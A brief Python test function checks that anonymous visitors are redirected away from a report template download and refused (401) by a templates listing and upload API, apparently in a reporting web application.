def test_it_sends_anonymous_visitors_away(client, tree, catalog):
    assert client.get(f"/reports/15061/W35/{PERIOD}/template.xlsx").status_code == 302
    assert APIClient().get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").status_code == 401
    assert APIClient().post("/api/v1/templates/upload/").status_code == 401
